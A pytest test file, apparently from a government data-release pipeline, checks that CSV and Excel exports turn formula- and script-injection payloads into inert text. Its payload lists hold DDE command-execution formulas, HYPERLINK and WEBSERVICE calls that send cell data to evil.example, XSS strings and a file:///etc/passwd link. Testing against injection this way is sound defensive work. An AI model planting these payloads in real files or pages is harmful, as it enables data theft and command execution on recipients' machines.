"""W1: text that would act, in every cell of outside origin of a release, stays text.

Each payload goes through both CSVs and the workbook and is parsed back.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections import Counter
from typing import Any

import pyarrow as pa
import pytest
from release_samples import YEAR, sources

from assets import registry
from assets.plaintext import plain
from assets.registry import Column, Table
from assets.release import build_tables, workbook
from assets.release.csvfile import excel_csv, plain_csv
from assets.release.tables import UNIT
from assets.release.workbook.layout import layout
from tests.workbook_cells import HEADERS, columns_of, opened, sheet_of_table

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "-1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "＠SUM(1+1)",
)
OTHERS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    'http://ok.example/"onmouseover="alert(1)',
    "http://ok.example/ và thêm chữ",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "external:c:\\temp\\x.xlsx",
    "internal:'Mục lục'!A1",
    "mailto:a@evil.example",
    "{=1+1}",
    "_x003D_1+1",
    '&C&"Arial"&F &A',
    "'=1+1",
    "]]><f>1+1</f>",
)
PAYLOADS = (*FORMULAS, *OTHERS)
LINK = "https://aita.gov.vn/x?id=1&b=2"
LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "＠")


def outside(column: Column) -> bool:
    """Whether text of any kind can stand in the column."""
    return column.type == "string" and not column.codes and not column.pattern


def filled(table: Table, frame: pa.Table) -> pa.Table:
    """The first row of a table once a payload, with the payload in every column of free text."""
    first: dict[str, Any] = frame.to_pylist()[0]
    rows = [
        {**first, **{c.name: text for c in table.columns if outside(c)}}
        for text in (*PAYLOADS, LINK)
    ]
    return pa.Table.from_pylist(rows, schema=frame.schema)


@pytest.fixture(scope="module")
def tables() -> dict[str, pa.Table]:
    built = build_tables(sources())
    return {name: filled(registry.table(name), frame) for name, frame in built.items()}


@pytest.fixture(scope="module")
def book(tables: dict[str, pa.Table]) -> bytes:
    return workbook.files(tables, YEAR)[workbook.WORKBOOK]


RELEASED = registry.tables(unit=UNIT)


def test_there_are_payloads_and_cells_enough() -> None:
    assert len(FORMULAS) >= 12
    assert len(set(PAYLOADS)) >= 30
    assert sum(outside(column) for table in RELEASED for column in table.columns) >= 50


@pytest.mark.parametrize("table", RELEASED, ids=lambda table: table.name)
@pytest.mark.parametrize("write", [plain_csv, excel_csv])
def test_no_cell_of_a_csv_begins_a_formula(
    write: Any, table: Table, tables: dict[str, pa.Table]
) -> None:
    text = write(table, tables[table.name]).decode("utf-8-sig")
    header, *rows = csv.reader(io.StringIO(text, newline=""), strict=True)
    assert len(rows) == len(PAYLOADS) + 1
    seen = 0
    for row, payload in zip(rows, PAYLOADS, strict=False):
        for column, cell in zip(table.columns, row, strict=True):
            if outside(column):
                assert cell == (f"'{payload}" if payload in FORMULAS else payload)
                assert not cell.startswith(LEADS)
                seen += 1
    assert header == list(table.column_names)
    assert seen == len(PAYLOADS) * sum(map(outside, table.columns))


@pytest.mark.parametrize("table", RELEASED, ids=lambda table: table.name)
def test_every_payload_is_text_in_its_cell(table: Table, book: bytes) -> None:
    sheet = sheet_of_table(opened(book, values=False), table)
    places = columns_of(sheet, table)
    for row, payload in enumerate(PAYLOADS, HEADERS + 2):
        for column in filter(outside, table.columns):
            cell = sheet.cell(row, places[column.name])
            shown = plain(payload, 1000)
            if "sha256" in column.name:
                shown = plain(payload[:12], 1000)
            assert (cell.data_type, cell.value) == ("s", shown), column.name
            assert cell.hyperlink is None
            if payload in FORMULAS and "sha256" not in column.name and shown == payload:
                assert cell.quotePrefix, "would be a formula once someone edits the cell"


def test_there_is_no_formula_and_no_link_but_our_own(book: bytes) -> None:
    look_ups = {place["sheet"] for place in layout()["look_up"]["sheets"].values()}
    links: Counter[str] = Counter()
    for sheet in opened(book, values=False):
        for cell in (cell for row in sheet.iter_rows() for cell in row):
            if cell.data_type == "f":
                assert sheet.title in look_ups
                assert re.match(r"=(IFERROR\((INDEX|IF\(MATCH)\(|INDEX\(\$|COUNTIFS\()", cell.value)
                assert not any(text in cell.value for text in ("evil", "cmd", "script", "1+1"))
            if cell.hyperlink:
                links[cell.hyperlink.target or "inside"] += 1
    tables_with_links = sum("source_ref" in table.column_names for table in RELEASED)
    sheets = len(look_ups) + len(RELEASED) + 1
    assert links == {"inside": 2 * sheets, LINK: tables_with_links}


def test_the_parts_of_the_file_hold_no_markup_of_others(book: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(book)) as box:
        parts = {name: box.read(name).decode() for name in box.namelist()}
    assert not [name for name in parts if "external" in name.lower() or name.endswith(".bin")]
    for name, text in parts.items():
        assert "<script" not in text
        assert "<img" not in text
        if name.endswith(".rels"):
            targets = set(re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text))
            assert targets <= {LINK.replace("&", "&amp;")}
    footers = re.findall(r"<oddFooter>(.*?)</oddFooter>", "".join(parts.values()))
    assert footers
    for footer in footers:  # commands of the footer are ours alone
        commands = re.sub("&amp;&amp;", "", footer)
        assert set(re.findall("&amp;.", commands)) <= {f"&amp;{sign}" for sign in "LR8PN"}
